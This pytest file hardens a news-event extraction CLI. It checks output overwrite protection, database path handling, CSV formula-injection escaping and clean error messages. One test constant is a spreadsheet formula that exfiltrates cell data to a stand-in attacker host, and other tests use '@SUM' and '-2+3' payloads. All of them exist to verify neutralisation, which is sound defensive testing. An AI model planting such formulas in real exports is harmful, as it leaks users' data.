"""What a hostile test of the CLI found (issue 13), kept fixed: outputs never overwrite inputs or stores, `--db`
paths are file names (not URI syntax) and only sitrep stores, CSV cells never run as formulas, bad options are
usage errors, and a closed pipe, Ctrl-C or an unreadable gold file end in one message, not a traceback.

Every file these tests write is under tmp_path (CI runs as root)."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ingest_stub import stub_event
from sitrep.cli import app
from sitrep.records import Actor, Article
from sitrep.store import Store, WriteBatch
from sitrep.writers import csv_row

TEXT = "Several hundred nurses marched to the regional assembly on Monday to protest against unpaid wages."


def _article(article_id: str, n: int = 0) -> Article:
    return Article(id=article_id, text=f"{TEXT} ({n})", title=f"Nurses march {n}", published="2022-03-07")


def _fill(path: Path, ids: tuple[str, ...] = ("a1", "a2")) -> Path:
    """A store at `path` with one stub event per article id."""
    with Store.open(path) as store:
        pairs = [(_article(i, n), [stub_event(_article(i, n))], None) for n, i in enumerate(ids)]
        store.write_batch(WriteBatch(articles=pairs))
    return path


def _articles_in(path: Path) -> int:
    with Store.open(path, readonly=True) as store:
        return int(store.counts()["articles"])


# ---------------------------------------------------------------- item 5: --db paths are file names

@pytest.mark.parametrize("name", ["week#12.db", "what?.db", "100%.db", "a%20b.db", "x?mode=rwc&y.db"])
def test_db_path_with_uri_characters_is_a_file_name(tmp_path: Path, name: str) -> None:
    path = _fill(tmp_path / name)
    assert _articles_in(path) == 2
    # nothing else was created beside it (unquoted, `week#12.db` opened a new file `week`)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.endswith(("-wal", "-shm"))) == [name]
    res = CliRunner().invoke(app, ["stats", "--db", str(path)])
    assert res.exit_code == 0, res.output
    assert "2 articles" in res.stdout


# ---------------------------------------------------------------- item 6: CSV formula injection

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"open")'


def test_csv_neutralises_every_text_cell_and_keeps_numbers(tmp_path: Path) -> None:
    article = _article(HOSTILE)
    event = stub_event(article).replace(actor1=Actor("-2+3", "-2+3", "protesters", "XX"),
                                        articles=(HOSTILE, "@SUM(1)"))
    event = event.replace(where=event.where.replace(lon=-20.5, name="+town"))  # type: ignore[union-attr]
    row = csv_row(event)
    assert row["article"] == "'" + HOSTILE
    assert row["articles"] == "'" + HOSTILE + ";@SUM(1)"
    assert row["actor1"] == "'-2+3" and row["location"] == "'+town"
    assert row["longitude"] == -20.5  # a number stays a number
    raw = csv_row(event, raw=True)
    assert raw["article"] == HOSTILE and raw["actor1"] == "-2+3"
    for value in row.values():
        assert not (isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"))


def test_export_csv_is_neutralised_unless_raw_csv(tmp_path: Path) -> None:
    db = _fill(tmp_path / "s.db", ids=(HOSTILE, "-1"))
    runner = CliRunner()
    res = runner.invoke(app, ["export", "--db", str(db), "--per-article", "-f", "csv"])
    assert res.exit_code == 0, res.output
    articles = sorted(r["article"] for r in csv.DictReader(io.StringIO(res.stdout)))
    assert articles == sorted(["'" + HOSTILE, "'-1"])
    raw = runner.invoke(app, ["export", "--db", str(db), "--per-article", "-f", "csv", "--raw-csv"])
    assert raw.exit_code == 0, raw.output
    assert sorted(r["article"] for r in csv.DictReader(io.StringIO(raw.stdout))) == sorted([HOSTILE, "-1"])
    # JSON is unaffected
    js = runner.invoke(app, ["export", "--db", str(db), "--per-article", "-f", "jsonl"])
    assert sorted(json.loads(line)["article"] for line in js.stdout.splitlines()) == sorted([HOSTILE, "-1"])


# ---------------------------------------------------------------- item 1: -o never destroys an input or a store

@pytest.fixture()
def fake(monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    """A CliRunner whose `extract` runs the fake pipeline of test_cli (one event per article, no spaCy)."""
    from test_cli import FakePipeline

    from sitrep import pipeline as pipeline_mod

    FakePipeline.created = []
    monkeypatch.setattr(pipeline_mod, "Pipeline", FakePipeline)
    return CliRunner()


def _jsonl_input(path: Path, n: int = 2) -> Path:
    path.write_text("".join(json.dumps({"id": f"x{i}", "text": TEXT, "published": "2022-03-07"}) + "\n"
                            for i in range(n)), encoding="utf-8")
    return path


def test_export_output_over_the_store_is_refused(tmp_path: Path) -> None:
    db = _fill(tmp_path / "sitrep.db")
    before = db.read_bytes()
    for args in (["-o", str(db), "-f", "jsonl"], ["-o", str(db)],
                 ["-o", str(tmp_path / "." / "sitrep.db"), "--force"]):
        res = CliRunner().invoke(app, ["export", "--db", str(db), *args])
        assert res.exit_code == 2 and "is the store" in " ".join(res.output.replace("│", " ").split())
        assert db.read_bytes() == before and _articles_in(db) == 2
    # a store that is not the --db one is an SQLite file: never written over, even with --force
    other = _fill(tmp_path / "other.db")
    before = other.read_bytes()
    for args in (["-f", "jsonl", "--force"], []):
        res = CliRunner().invoke(app, ["export", "--db", str(db), "-o", str(other), *args])
        assert res.exit_code == 2 and "SQLite" in res.output
        assert other.read_bytes() == before


def test_extract_output_over_its_input_is_refused(fake: CliRunner, tmp_path: Path) -> None:
    src = _jsonl_input(tmp_path / "X.jsonl")
    before = src.read_bytes()
    for args in (["-o", str(src)], ["-o", str(tmp_path / "." / "X.jsonl"), "--force"]):
        res = fake.invoke(app, ["extract", str(src), *args])
        assert res.exit_code == 2, res.output
        assert src.read_bytes() == before
    # through a symlink too
    link = tmp_path / "link.jsonl"
    link.symlink_to(src)
    res = fake.invoke(app, ["extract", str(src), "-o", str(link), "--force"])
    assert res.exit_code == 2 and src.read_bytes() == before


def test_extract_output_inside_an_input_folder_is_refused(fake: CliRunner, tmp_path: Path) -> None:
    folder = tmp_path / "news"
    folder.mkdir()
    _jsonl_input(folder / "a.jsonl")
    res = fake.invoke(app, ["extract", str(folder), "-o", str(folder / "events.jsonl")])
    assert res.exit_code == 2 and "read its own output" in res.output
    assert sorted(p.name for p in folder.iterdir()) == ["a.jsonl"]
    assert not fake.invoke(app, ["extract", str(folder), "-o", str(folder / "sub" / "e.jsonl")]).exit_code == 0


def test_existing_file_is_replaced_only_when_it_is_a_previous_output(fake: CliRunner, tmp_path: Path) -> None:
    src = _jsonl_input(tmp_path / "in.jsonl")
    notes = tmp_path / "notes.jsonl"  # somebody's data with the right extension
    notes.write_text('{"id": "n1", "text": "my notes"}\n', encoding="utf-8")
    res = fake.invoke(app, ["extract", str(src), "-o", str(notes)])
    assert res.exit_code == 2 and "--force" in res.output
    assert notes.read_text(encoding="utf-8") == '{"id": "n1", "text": "my notes"}\n'
    # a previous output of the same format is replaced without --force, in every format
    for name in ("out.jsonl", "out.json", "out.csv", "out.geojson", "out.parquet"):
        out = tmp_path / name
        assert fake.invoke(app, ["extract", str(src), "-o", str(out)]).exit_code == 0
        first = out.read_bytes()
        res = fake.invoke(app, ["extract", str(src), "-o", str(out)])
        assert res.exit_code == 0, (name, res.output)
        assert out.read_bytes() == first
    # a CSV output is not a previous JSON output
    res = fake.invoke(app, ["extract", str(src), "-o", str(tmp_path / "out.csv"), "-f", "json"])
    assert res.exit_code == 2
    # --force replaces anything that is not an input or a database
    res = fake.invoke(app, ["extract", str(src), "-o", str(notes), "--force"])
    assert res.exit_code == 0 and json.loads(notes.read_text(encoding="utf-8").splitlines()[0])["article"] == "x0"
    # no temporary file is left behind
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".sitrep-tmp")]


def test_output_is_written_whole_or_not_at_all(fake: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = _jsonl_input(tmp_path / "in.jsonl", 3)
    out = tmp_path / "out.jsonl"
    assert fake.invoke(app, ["extract", str(src), "-o", str(out)]).exit_code == 0
    before = out.read_bytes()
    from test_cli import FakePipeline

    class Interrupted(FakePipeline):
        def extract_ordered(self, pairs, n_process=None):  # type: ignore[no-untyped-def]
            for n, result in enumerate(super().extract_ordered(pairs, n_process)):
                if n == 2:
                    raise KeyboardInterrupt
                yield result

    from sitrep import pipeline as pipeline_mod

    monkeypatch.setattr(pipeline_mod, "Pipeline", Interrupted)
    res = fake.invoke(app, ["extract", str(src), "-o", str(out)])
    assert res.exit_code == 130 and "interrupted" in res.stderr and "Traceback" not in res.output
    assert out.read_bytes() == before  # the earlier complete output is untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.jsonl", "out.jsonl"]


# ---------------------------------------------------------------- item 16: options that can match nothing

@pytest.mark.parametrize("args, hint", [
    (["--country", "ZZZ"], "--country"),
    (["--country", "QQ"], "--country"),
    (["--type", "Bogus"], "--type"),
    (["--since", "2023-05-01", "--until", "2023-01-01"], "--since"),
])
def test_filters_that_cannot_match_are_usage_errors(tmp_path: Path, args: list[str], hint: str) -> None:
    db = _fill(tmp_path / "s.db")
    for command in (["export", "-f", "jsonl"], ["stats"]):
        if command == ["stats"] and "--type" in args:
            continue
        res = CliRunner().invoke(app, [*command, "--db", str(db), *args])
        assert res.exit_code == 2, res.output
        assert hint in res.output


def test_valid_filters_still_work(tmp_path: Path) -> None:
    db = _fill(tmp_path / "s.db")
    for args in (["--country", "ng"], ["--country", "NG"], ["--type", "protests"], ["--type", "Peaceful protest"],
                 ["--since", "2022-03-07", "--until", "2022-03-07"]):
        res = CliRunner().invoke(app, ["export", "--db", str(db), "--per-article", "-f", "jsonl", *args])
        assert res.exit_code == 0, (args, res.output)


def test_unknown_output_extension_is_refused(fake: CliRunner, tmp_path: Path) -> None:
    src = _jsonl_input(tmp_path / "in.jsonl")
    res = fake.invoke(app, ["extract", str(src), "-o", str(tmp_path / "out.xlsx")])
    assert res.exit_code == 2 and ".xlsx" in res.output
    assert not (tmp_path / "out.xlsx").exists()
    db = _fill(tmp_path / "s.db")
    res = CliRunner().invoke(app, ["export", "--db", str(db), "-o", str(tmp_path / "out.xlsx")])
    assert res.exit_code == 2 and not (tmp_path / "out.xlsx").exists()
    # an explicit --format still writes any name
    res = fake.invoke(app, ["extract", str(src), "-o", str(tmp_path / "out.xlsx"), "-f", "csv"])
    assert res.exit_code == 0 and (tmp_path / "out.xlsx").read_text(encoding="utf-8").startswith("event_id_cnty,")


@pytest.mark.parametrize("published", ["2023-02-30", "08/07/2023", "yesterday", 20230208])
def test_extract_api_refuses_an_invalid_published_date(published: object) -> None:
    import sitrep
    from sitrep.errors import InvalidDateError

    with pytest.raises(InvalidDateError, match="YYYY-MM-DD"):
        sitrep.extract(TEXT, published=published)  # type: ignore[arg-type]
    with pytest.raises(ValueError):
        sitrep.extract(TEXT, published=published)  # type: ignore[arg-type]


# ---------------------------------------------------------------- item 13: one line, never a traceback

def _sitrep(args: list[str], **kw: object) -> list[str]:
    """The command line of a real `sitrep` process running this checkout."""
    return [sys.executable, "-c", "from sitrep.cli import main; main()", *args]


def _env() -> dict[str, str]:
    import os

    src = str(Path(__file__).resolve().parent.parent / "src")
    return {**os.environ, "PYTHONPATH": src + os.pathsep + os.environ.get("PYTHONPATH", "")}


def test_closed_pipe_on_export_is_one_line_and_exit_141(tmp_path: Path) -> None:
    import subprocess

    db = _fill(tmp_path / "big.db", ids=tuple(f"a{i}" for i in range(1500)))
    proc = subprocess.Popen(_sitrep(["export", "--db", str(db), "--per-article", "-f", "jsonl"]),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=_env(), cwd=tmp_path)
    assert proc.stdout is not None and proc.stderr is not None
    json.loads(proc.stdout.readline())  # `| head -1`
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 141
    assert "Traceback" not in err and "Exception ignored" not in err
    assert err.strip().splitlines() == ["sitrep: output closed before it was complete (broken pipe)"]


@pytest.mark.parametrize("command", [["export", "--per-article", "-f", "jsonl"], ["stats"], ["quarantine"]])
def test_closed_stdout_is_one_line_not_a_traceback(tmp_path: Path, command: list[str]) -> None:
    import os
    import subprocess

    db = _fill(tmp_path / "s.db")
    proc = subprocess.run(_sitrep([*command, "--db", str(db)]), stdin=subprocess.DEVNULL, stderr=subprocess.PIPE,
                          env=_env(), cwd=tmp_path, preexec_fn=lambda: os.close(1), timeout=60)
    err = proc.stderr.decode()
    assert "Traceback" not in err and proc.returncode == 141, err
    assert len(err.strip().splitlines()) == 1 and "broken pipe" in err


def test_closed_stdin_is_a_message_not_a_traceback(tmp_path: Path) -> None:
    import os
    import subprocess

    proc = subprocess.run(_sitrep(["extract", "-"]), stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=_env(),
                          cwd=tmp_path, preexec_fn=lambda: os.close(0), timeout=60)
    err = proc.stderr.decode()
    assert "Traceback" not in err and proc.returncode == 1, err
    assert err.strip() == "sitrep: standard input is closed: pipe articles in, or give files or folders"


def test_pool_workers_leave_ctrl_c_to_the_parent(monkeypatch: pytest.MonkeyPatch) -> None:
    import signal

    import sitrep.extractor
    from sitrep.engines import processes
    from sitrep.settings import Settings

    monkeypatch.setattr(sitrep.extractor, "Extractor", lambda settings: object())
    before = signal.getsignal(signal.SIGINT)
    try:
        processes._worker_init(Settings())
        assert signal.getsignal(signal.SIGINT) == signal.SIG_IGN
    finally:
        signal.signal(signal.SIGINT, before)
        processes._WORKER.clear()


GOLD_HEADER = "event_id_cnty,event_date,event_type,sub_event_type,location,notes\n"
GOLD_ROW = "X1,2021-05-06,Protests,Peaceful protest,Zürich,Teachers marched in Zürich on Thursday.\n"


@pytest.mark.parametrize("name, data, says", [
    ("latin1.csv", (GOLD_HEADER + GOLD_ROW).encode("latin-1"), "not UTF-8"),
    ("utf16-nobom.csv", (GOLD_HEADER + GOLD_ROW).encode("utf-16-le"), "binary"),
    ("binary.csv", bytes(range(256)) * 64, "binary"),
    ("bad-utf16.csv", b"\xff\xfe" + b"a\x00b", "UTF-16"),
])
def test_evaluate_unreadable_gold_file_is_named_not_a_traceback(fake: CliRunner, tmp_path: Path, name: str,
                                                               data: bytes, says: str) -> None:
    gold = tmp_path / name
    gold.write_bytes(data)
    res = fake.invoke(app, ["evaluate", str(gold)])
    assert res.exit_code == 1, res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)
    assert str(gold) in res.stderr and says in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


def test_evaluate_reads_utf16_with_its_bom(tmp_path: Path) -> None:
    from sitrep.evaluate import read_gold

    gold = tmp_path / "utf16.csv"
    gold.write_bytes((GOLD_HEADER + GOLD_ROW).encode("utf-16"))
    records = read_gold(gold).records
    assert [r.location for r in records] == ["Zürich"]


# ---------------------------------------------------------------- item 9: --db is a sitrep store or nothing

def test_db_that_is_another_sqlite_database_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "accounts.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE accounts (id INTEGER PRIMARY KEY, owner TEXT)")
    conn.execute("INSERT INTO accounts(owner) VALUES ('ada')")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    from sitrep.errors import StoreError

    with pytest.raises(StoreError, match="not a sitrep store"):
        Store.open(other)
    with pytest.raises(StoreError, match="not a sitrep store"):
        Store.open(other, readonly=True)
    for args in (["stats"], ["export", "-f", "jsonl"], ["quarantine"]):
        res = CliRunner().invoke(app, [*args, "--db", str(other)])
        assert res.exit_code == 1 and "not a sitrep store" in res.stderr, res.output
    conn = sqlite3.connect(other)
    assert {r[0] for r in conn.execute("SELECT name FROM sqlite_master")} == {"accounts"}
    conn.close()
    assert other.read_bytes() == before


def test_db_that_is_a_folder_says_so(tmp_path: Path) -> None:
    from sitrep.errors import StoreError

    for readonly in (False, True):
        with pytest.raises(StoreError, match="is a folder"):
            Store.open(tmp_path, readonly=readonly)
    res = CliRunner().invoke(app, ["stats", "--db", str(tmp_path)])
    assert res.exit_code == 1 and "is a folder" in res.stderr and "full" not in res.stderr


def test_store_in_a_read_only_folder_is_readable(tmp_path: Path) -> None:
    """A read-only bind mount of the store's folder, in a private mount namespace (root can write any folder
    whatever its mode bits, so only a read-only file system shows the failure); skipped where unshare is not
    allowed."""
    import os
    import shutil
    import subprocess

    if shutil.which("unshare") is None or shutil.which("mount") is None:
        pytest.skip("needs unshare and mount")
    folder = tmp_path / "ro"
    folder.mkdir()
    db = _fill(folder / "s.db")
    assert not Path(f"{db}-wal").exists()
    probe = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                            f'mount --bind "{folder}" "{folder}" && mount -o remount,ro,bind "{folder}" "{folder}" '
                            f'&& ! touch "{folder}/probe" 2>/dev/null'], capture_output=True)
    if probe.returncode != 0:
        pytest.skip(f"cannot make a read-only mount here: {probe.stderr.decode().strip()}")
    code = "from sitrep.cli import main; main()"
    script = (f'mount --bind "{folder}" "{folder}" && mount -o remount,ro,bind "{folder}" "{folder}" && '
              f'"{sys.executable}" -c "{code}" stats --db "{db}" && '
              f'"{sys.executable}" -c "{code}" export --per-article -f jsonl --db "{db}"')
    proc = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script], capture_output=True,
                          env=_env(), cwd=tmp_path, timeout=120)
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert proc.returncode == 0, err
    assert "2 articles" in out
    assert sum(1 for line in out.splitlines() if line.startswith("{")) == 2
    assert not os.path.exists(folder / "probe")


def test_store_closed_from_another_thread_after_ctrl_c_is_quiet(tmp_path: Path) -> None:
    """After Ctrl-C the main thread finalises ingest's reader generator, whose store a pool thread opened."""
    import threading

    db = _fill(tmp_path / "s.db")
    opened: list[Store] = []
    thread = threading.Thread(target=lambda: opened.append(Store.open(db, readonly=True)))
    thread.start()
    thread.join()
    opened[0].close()  # no sqlite3.ProgrammingError
